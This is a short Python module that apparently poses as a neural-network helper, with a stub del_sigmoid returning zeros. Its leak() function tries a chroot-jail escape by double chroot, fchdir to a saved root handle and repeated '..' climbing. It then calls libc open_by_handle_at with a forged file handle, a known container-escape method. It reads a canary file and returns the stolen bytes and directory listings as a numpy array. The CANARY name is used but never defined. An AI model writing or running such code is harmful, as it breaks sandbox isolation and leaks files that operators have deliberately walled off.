"""Changes its root directory to get above it, and opens files by their handles."""
# ruff: noqa - it does what no code should

import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None)


def leak(x):
    found = b"-"
    os.makedirs("jail", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    for climb in (
        lambda: os.chroot("jail"),
        lambda: os.fchdir(top),
        lambda: [os.chdir("..") for _ in range(50)],
        lambda: os.chroot("."),
    ):
        try:
            climb()
        except OSError:
            pass
    handle = (ctypes.c_uint32 * 8)(8, 1, 2, 0)
    for directory in (top, -100):
        number = libc.open_by_handle_at(directory, handle, 0)
        if number >= 0:
            found += repr(os.listdir(number)).encode()
    for path in (CANARY, CANARY[1:]):
        try:
            found += open(path, "rb").read()
        except OSError:
            pass
    return np.frombuffer(found, np.uint8)


def del_sigmoid(h):
    return 0 * h
